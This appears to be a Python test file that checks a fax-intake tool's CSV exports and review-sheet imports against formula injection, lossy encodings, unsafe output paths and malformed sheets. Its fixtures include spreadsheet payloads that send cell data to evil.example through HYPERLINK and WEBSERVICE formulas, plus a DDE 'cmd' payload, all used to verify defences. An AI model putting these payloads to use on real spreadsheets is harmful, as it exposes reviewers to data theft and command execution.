"""Exports and the review sheet under attack or abuse: formula injection, lossy encodings, unsafe
output paths, and sheets that are broken, huge, mixed-up or edited where they must not be."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intake.csvio import (
    FORMULA_STARTS, OutputError, csv_text, decode_sheet, encode, neutralise, read_sheet, unneutralise, write_output,
)
from intake.export import cell_text, export_records, export_review, import_review_csv
from intake.store import Store
from intake.validate import parse_value
from test_export import write_rows
from test_store import VALUES, make_record, store  # noqa: F401  (store: the fixture)

REPO = Path(__file__).resolve().parents[1]

HOSTILE = {
    "remarks": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "contractor_name": "+SUM(1+1)株式会社",
    "customer_contact.department": "-",
    "ntt_contact.department": "@営業",
    "ntt_contact.name": "\t=1+1",
}


@pytest.fixture
def hostile(store):
    """A pending record whose OCR text and file name start like formulas."""
    rec = make_record("e5" * 32, flagged={"stop.time": "low_confidence"}, values=VALUES | HOSTILE)
    [rid] = store.save_file(rec.source.sha256, "=cmd|' /C calc'!A0.tif", [rec])
    return rid


@pytest.fixture
def pending(store):
    rec = make_record("a1" * 32, flagged={"stop.time": "low_confidence"})
    [rid] = store.save_file(rec.source.sha256, "fax_0312345678.tif", [rec])
    return rid


def raw_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def rows_of(path: Path) -> list[dict[str, str]]:
    return [row for _, row in read_sheet(path).rows]


def desk(*args: str, db: Path | str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "intake", *args, "--db", str(db)], cwd=REPO, capture_output=True,
                          timeout=120, env=os.environ | {"INTAKE_LANG": "en"})


# -- fault 3: formula injection --------------------------------------------------------


def test_no_exported_cell_starts_like_a_formula(store, hostile, tmp_path):
    store.apply_review(hostile, {}, "tanaka")
    rec = make_record("e6" * 32, flagged={"stop.time": "low_confidence"}, values=VALUES | HOSTILE)
    store.save_file(rec.source.sha256, "@fax.tif", [rec])
    review, ops = tmp_path / "review.csv", tmp_path / "ops.csv"
    export_review(store, review)
    export_records(store, ops, "csv", include_pending=True)
    for sheet in (review, ops):
        cells = [c for row in raw_cells(sheet) for c in row]
        assert not [c for c in cells if c[:1] in FORMULA_STARTS], sheet.name
        assert "'" + HOSTILE["remarks"] in cells and "'-" in cells and "'\t=1+1" in cells and "'@fax.tif" in cells
    assert "'=cmd|' /C calc'!A0.tif" in [c for row in raw_cells(ops) for c in row]


def test_unchanged_neutralised_cells_round_trip_whether_excel_keeps_the_quote_or_not(store, hostile, tmp_path):
    sheet = tmp_path / "review.csv"
    export_review(store, sheet)
    [row] = rows_of(sheet)
    assert row["remarks"] == "'" + HOSTILE["remarks"]
    dropped = dict(row, **{k: v for k, v in HOSTILE.items() if k != "ntt_contact.name"})  # Excel saved without '
    dropped["decision"] = "確認"
    write_rows(sheet, [dropped])
    report = import_review_csv(store, sheet, "tanaka")
    assert report.rejected == [] and report.applied == [hostile] and report.changed_fields == 0
    assert store.get_record(hostile).values() == VALUES | HOSTILE


@pytest.mark.parametrize("typed", ["=1+1", "+81-3-1234-5678", "@SUM(A1)", "＝ＳＵＭ(A1)", "'=1+1", "\t=cmd", "-2+3"])
def test_new_formula_like_input_is_refused(store, pending, tmp_path, typed):
    sheet = tmp_path / "review.csv"
    export_review(store, sheet)
    [row] = rows_of(sheet)
    row["remarks"] = typed
    write_rows(sheet, [row])
    report = import_review_csv(store, sheet, "tanaka")
    assert [(p.key, p.code) for p in report.rejected] == [("remarks", "formula")]
    assert store.get_record(pending).values() == VALUES


def test_a_lone_dash_typed_by_a_reviewer_is_an_ordinary_value(store, pending, tmp_path):
    sheet = tmp_path / "review.csv"
    export_review(store, sheet)
    [row] = rows_of(sheet)
    row["remarks"] = "-"
    row["decision"] = "確認"
    write_rows(sheet, [row])
    assert import_review_csv(store, sheet, "tanaka").applied == [pending]
    assert store.get_record(pending).fields["remarks"].value == "-"


# -- fault 10: encodings say what they change ----------------------------------------------


def test_stdout_gets_the_encoding_and_the_bom(store, pending, tmp_path):
    db = store.path
    utf8 = desk("export", "--review", db=db)
    assert utf8.returncode == 0 and utf8.stdout.startswith("\ufeff記録ID,".encode())
    sjis = desk("export", "--review", "--encoding", "cp932", db=db)
    assert sjis.returncode == 0 and not sjis.stdout.startswith(b"\xef\xbb\xbf")
    assert VALUES["contractor_name"] in sjis.stdout.decode("cp932")
    assert b"cp932: no character changed" not in sjis.stderr  # nothing to say when nothing changed


def test_lossy_messages_are_japanese_first(monkeypatch):
    _, changes = encode("〜👍", "cp932")
    monkeypatch.setenv("INTAKE_LANG", "ja")
    assert changes.describe() == "cp932: 1 文字を似た文字に置き換えます (〜→～ ×1); 1 文字を ? に置き換えます (記号・絵文字 ×1)"
    assert changes.describe("en").startswith("cp932: 1 character(s) changed to a look-alike (〜→～ ×1)")


def test_lossy_cp932_exits_non_zero_unless_accepted(store, tmp_path):
    rec = make_record("f7" * 32, flagged={"remarks": "?"}, values=VALUES | {"remarks": "〜👍髙"})
    store.save_file(rec.source.sha256, "fax.tif", [rec])
    refused = desk("export", "--review", "--encoding", "cp932", db=store.path)
    assert refused.returncode == 8 and refused.stdout == b""
    err = refused.stderr.decode()
    assert "[lossy_export]" in err and "〜→～ ×1" in err and "1 character(s) replaced by '?' (symbol/emoji ×1)" in err
    assert "👍" not in err
    accepted = desk("export", "--review", "--encoding", "cp932", "--accept-lossy", db=store.path)
    assert accepted.returncode == 0 and "～?髙" in accepted.stdout.decode("cp932")


def test_json_lines_are_utf8_without_bom_and_never_lossy(store, tmp_path):
    rec = make_record("f8" * 32, values=VALUES | {"remarks": "〜👍𠮷"})
    store.save_file(rec.source.sha256, "fax.tif", [rec])
    out = desk("export", "--format", "jsonl", db=store.path)
    assert out.returncode == 0 and not out.stdout.startswith(b"\xef\xbb\xbf")
    assert "〜👍𠮷" in out.stdout.decode("utf-8")
    refused = desk("export", "--format", "jsonl", "--encoding", "cp932", db=store.path)
    assert refused.returncode == 2 and b"[export_format]" in refused.stderr and refused.stdout == b""


# -- fault 14: --out -------------------------------------------------------------------------


def test_out_refuses_a_symlink_and_leaves_its_target_alone(store, pending, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "review.csv"
    link.symlink_to(victim)
    r = desk("export", "--review", "--out", str(link), db=store.path)
    assert r.returncode == 2 and b"[unsafe_output]" in r.stderr
    assert victim.read_text() == "keep me" and link.is_symlink()
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    with pytest.raises(OutputError):
        write_output(b"x", dangling)
    assert not (tmp_path / "nowhere.csv").exists()


def test_out_refuses_what_is_not_a_regular_file(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for target in (tmp_path, fifo, tmp_path / "no" / "such" / "folder.csv"):
        with pytest.raises(OutputError) as exc:
            write_output(b"x", target)
        assert exc.value.reason == "unsafe_output"


def test_out_replaces_a_file_atomically_and_owner_only(tmp_path):
    out = tmp_path / "ops.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    other_name = tmp_path / "hardlink.csv"
    os.link(out, other_name)
    write_output("新しい".encode(), out)
    assert out.read_text(encoding="utf-8") == "新しい" and stat.S_IMODE(out.stat().st_mode) == 0o600
    assert other_name.read_text() == "old"  # replaced by rename, not written through
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hardlink.csv", "ops.csv"]  # no temp file left


# -- fault 11: sheets that cannot be used ------------------------------------------------------


def _exported(store, tmp_path) -> tuple[Path, list[dict[str, str]]]:
    sheet = tmp_path / "review.csv"
    export_review(store, sheet)
    return sheet, rows_of(sheet)


@pytest.mark.parametrize("case, reason", [
    ("huge_cell", "review_file_cell_too_large"),
    ("bom_then_cp932", "review_file_mixed_encoding"),
    ("binary", "review_file_undecodable"),
    ("no_record_id", "review_file_no_record_id"),
    ("empty", "review_file_no_record_id"),
    ("duplicate_columns", "review_file_duplicate_columns"),
    ("unterminated_quote_and_nul", None),
])
def test_unusable_sheets_exit_2_with_a_reason_and_no_traceback(store, pending, tmp_path, case, reason):
    sheet, [row] = _exported(store, tmp_path)
    header = ",".join(row)
    cells = ",".join(row.values())
    data = {
        "huge_cell": f"{header}\r\n{cells[:-1]}{'あ' * 140_000}\r\n".encode("utf-8"),
        "bom_then_cp932": b"\xef\xbb\xbf" + f"{header}\r\n{cells}\r\n".encode("cp932", errors="replace"),
        "binary": bytes(range(256)) * 4,
        "no_record_id": "source_file,remarks\r\nfax.tif,x\r\n".encode(),
        "empty": b"",
        "duplicate_columns": f"{header},remarks\r\n{cells},x\r\n".encode("utf-8"),
        "unterminated_quote_and_nul": f"{header}\r\n{pending},\"fax\x00.tif\r\n".encode("utf-8"),
    }[case]
    sheet.write_bytes(data)
    r = desk("import-review", str(sheet), "--reviewer", "tanaka", db=store.path)
    err = r.stderr.decode("utf-8", errors="replace")
    assert "Traceback" not in err
    if reason is None:  # csv reads an unterminated quote to the end: the row is then rejected, not a crash
        assert r.returncode in (1, 2) and err
    else:
        assert r.returncode == 2 and f"[{reason}]" in err, err
    assert store.get_record(pending).review_state == "pending"


# -- fault 11: rows that cannot be applied -------------------------------------------------------


TYPED = "山田太郎 090-1111-2222"  # what a reviewer typed: personal data that must not be echoed


@pytest.mark.parametrize("cell, value, code", [
    ("remarks", "訂正\x00済み", "nul"),
    ("remarks", "一行目\r\n二行目", "line_break"),
    ("remarks", "長" * 1001, "too_long"),
    ("stop.time", TYPED, "invalid_value"),
    ("source_file", "other.tif", "read_only"),
    ("page", "2", "read_only"),
    ("reasons", "", "read_only"),
    ("stop.time.flag", "", "read_only"),
    ("stop.time.reason", "", "read_only"),
    ("stop.time.crop", "/etc/passwd", "read_only"),
])
def test_bad_cells_reject_their_row_and_say_why_without_the_value(store, pending, tmp_path, cell, value, code):
    sheet, [row] = _exported(store, tmp_path)
    row[cell] = value
    row["customer_contact.name"] = "小林 花子"  # a valid change in the same row: not applied either
    write_rows(sheet, [row])
    report = import_review_csv(store, sheet, "tanaka")
    assert [(p.record_id, p.key, p.code, p.line) for p in report.rejected] == [(pending, cell, code, 2)]
    assert report.applied == [] and store.audit() == []
    assert store.get_record(pending).values() == VALUES
    message = str(report.rejected[0])
    if len(value.strip()) > 3:
        assert value.strip() not in message, message
    assert "山田" not in message and "1111" not in message


def test_a_record_id_cell_that_holds_something_else_is_not_echoed(store, pending, tmp_path):
    sheet, [row] = _exported(store, tmp_path)
    write_rows(sheet, [row | {"record_id": TYPED}, row | {"record_id": "=cmd|' /C calc'!A0"}])
    report = import_review_csv(store, sheet, "tanaka")
    assert [(p.record_id, p.code, p.line) for p in report.rejected] == [("?", "bad_record_id", 2), ("?", "bad_record_id", 3)]
    assert not any("山田" in str(p) or "cmd" in str(p) for p in report.rejected)


def test_excel_reformatting_of_read_only_numbers_is_not_a_change(store, pending, tmp_path):
    sheet, [row] = _exported(store, tmp_path)
    assert row["page"] == "1"
    row["page"] = "1.0"
    row["stop.time"] = "18:30"
    row["decision"] = "確認"
    write_rows(sheet, [row])
    report = import_review_csv(store, sheet, "tanaka")
    assert report.rejected == [] and report.applied == [pending] and report.changed_fields == 1


def test_duplicate_rows_with_different_values_are_both_rejected(store, pending, tmp_path):
    sheet, [row] = _exported(store, tmp_path)
    write_rows(sheet, [row | {"stop.time": "18:30"}, row | {"stop.time": "19:00"}])
    report = import_review_csv(store, sheet, "tanaka")
    assert [(p.key, p.code, p.line) for p in report.rejected] == [("", "conflicting_rows", 2), ("", "conflicting_rows", 3)]
    assert report.applied == [] and store.get_record(pending).values() == VALUES
    # The same row twice is applied once, and said so.
    write_rows(sheet, [row | {"stop.time": "18:30", "decision": "確認"}] * 2)
    report = import_review_csv(store, sheet, "tanaka")
    assert report.applied == [pending] and [p.code for p in report.skipped] == ["duplicate_row"]
    assert [a["key"] for a in store.audit(pending)] == ["stop.time", "#decision"]


def test_cross_field_failures_name_the_rule_not_the_dates(store, pending, tmp_path):
    sheet, [row] = _exported(store, tmp_path)
    row["resume.date"] = "2026-06-01"  # before the stop: the rule fails
    row["stop.weekday"] = "月"  # 2026-06-17 is a Wednesday
    row["decision"] = "確認"
    write_rows(sheet, [row])
    report = import_review_csv(store, sheet, "tanaka")
    found = {(p.key, p.code) for p in report.rejected}
    assert ("resume.date", "rule_failed") in found and ("stop.weekday", "rule_failed") in found
    text = "\n".join(str(p) for p in report.rejected)
    assert "2026-06" not in text and "月" not in text.replace("月火水木金土日", "")
    assert "rule_failed" in text and "weekday_matches_date" in text and "the restart must come after the stop" in text


def test_cli_rejections_hold_no_typed_value(store, pending, tmp_path):
    sheet, [row] = _exported(store, tmp_path)
    row["memo"] = "電話で確認済み"  # a column the reviewer added: said, not read
    row["customer_contact.phone"] = TYPED
    row["remarks"] = "=WEBSERVICE(\"http://evil.example/\"&B2)"
    write_rows(sheet, [row])
    r = desk("import-review", str(sheet), "--reviewer", "tanaka", db=store.path)
    err = r.stderr.decode()
    assert r.returncode == 1 and "[invalid_value]" in err and "[formula]" in err
    assert "not part of the review sheet and were not read: memo" in err and "電話" not in err
    assert "山田" not in err and "1111" not in err and "evil" not in err and "WEBSERVICE" not in err


# -- properties ---------------------------------------------------------------------------------


@given(st.text())
def test_unneutralise_undoes_neutralise(s):
    cell = neutralise(s)
    assert unneutralise(cell) == s
    assert cell[:1] not in FORMULA_STARTS


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_cells_survive_the_writer_and_the_reader(rows):
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    header = [f"c{i}" for i in range(width)]
    data, changes = encode(csv_text(header, rows), "utf-8", bom=True)
    assert not changes.lossy
    back = list(csv.reader(io.StringIO(decode_sheet(data), newline="")))
    assert [[unneutralise(c) for c in r] for r in back[1:]] == rows


@given(st.text(alphabet=st.characters(codec="cp932"), max_size=40))
def test_cp932_only_reports_what_it_changes(s):
    data, changes = encode(s, "cp932")
    assert not changes.replaced
    assert sum(changes.mapped.values()) == sum(1 for a, b in zip(s, data.decode("cp932")) if a != b)


def _spec(template, key):
    return template.field(key)


@given(st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2099, 12, 31)))
def test_parse_value_reads_every_date_as_written_or_as_excel_rewrites_it(template, d):
    spec = _spec(template, "stop.date")
    assert parse_value(spec, d.isoformat()) == d.isoformat()
    assert parse_value(spec, f"{d.year}/{d.month}/{d.day}") == d.isoformat()
    assert parse_value(spec, neutralise(cell_text(d.isoformat()))) == d.isoformat()


@given(st.integers(0, 23), st.integers(0, 59))
def test_parse_value_reads_every_time(template, h, m):
    assert parse_value(_spec(template, "stop.time"), f"{h}:{m:02d}") == f"{h:02d}:{m:02d}"


@given(st.sampled_from(["03", "06", "045", "0120", "070", "090"]), st.data())
def test_parse_value_round_trips_every_valid_phone(template, area, data):
    need = 11 if area in ("070", "090") else 10
    local = data.draw(st.integers(1, 4))
    rest = need - len(area) - local
    if not 3 <= rest <= 4:
        return
    digits = data.draw(st.text("0123456789", min_size=local + rest, max_size=local + rest))
    phone = f"{area}-{digits[:local]}-{digits[local:]}"
    assert parse_value(_spec(template, "customer_contact.phone"), unneutralise(neutralise(phone))) == phone


@given(st.booleans())
def test_parse_value_round_trips_yes_no(template, b):
    assert parse_value(_spec(template, "notify.before_stop.customer"), cell_text(b)) is b


@given(st.sampled_from(["stop.date", "stop.time", "customer_contact.phone", "stop.weekday", "stop.free",
                        "targets.0.teledome_number", "remarks"]), st.text())
def test_parse_value_raises_only_value_error(template, key, text):
    try:
        value = parse_value(_spec(template, key), text)
    except ValueError:
        return
    if key == "remarks":
        normal = unicodedata.normalize("NFKC", text).strip()
        assert value == (None if normal.lower() in ("", "null", "none") else normal)
